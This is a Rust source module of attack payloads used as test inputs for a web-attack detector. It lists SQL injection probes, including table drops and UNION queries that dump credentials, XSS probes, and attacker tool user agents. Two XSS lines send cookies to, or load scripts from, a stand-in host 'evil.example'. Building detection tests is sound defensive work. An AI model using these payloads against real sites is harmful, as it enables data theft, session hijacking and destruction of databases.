//! Attack payloads as scanners and manual attackers send them: the inputs a web-attack detector
//! must flag. Kept apart from the attack logic so that lists can grow without touching it.

/// SQL injection probes.
pub(crate) const SQLI: &[&str] = &[
    "' OR '1'='1",
    "1' OR 1=1-- -",
    "1 AND 1=2 UNION SELECT NULL,NULL,NULL--",
    "' UNION SELECT username,password FROM users--",
    "1; DROP TABLE orders--",
    "1' AND SLEEP(5)#",
    "1 AND (SELECT 7423 FROM (SELECT(SLEEP(5)))abc)",
    "' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ",
    "1' ORDER BY 10-- -",
    "admin'--",
    "1) OR pg_sleep(5)--",
    "' OR 1=1 LIMIT 1 OFFSET 0 --",
    "1 WAITFOR DELAY '0:0:5'--",
    "-1' UNION ALL SELECT table_name,NULL FROM information_schema.tables-- -",
    "1' AND ASCII(SUBSTRING((SELECT database()),1,1))>64-- ",
    "\" OR \"\"=\"",
];

/// Cross-site scripting probes.
pub(crate) const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert('xss')>",
    "'\"><img src=x onerror=fetch('//evil.example/'+document.cookie)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<script src=//evil.example/x.js></script>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
];

/// User agents of injection tools and scripts.
pub(crate) const TOOL_AGENTS: &[&str] = &[
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "python-requests/2.32.3",
    "curl/8.5.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
    "Go-http-client/1.1",
];

/// Percent-encodes everything but RFC 3986's unreserved characters, as a browser's form would.
pub(crate) fn url_encode(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 3);
    for b in text.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
            out.push(b as char);
        } else if b == b' ' {
            out.push('+');
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}
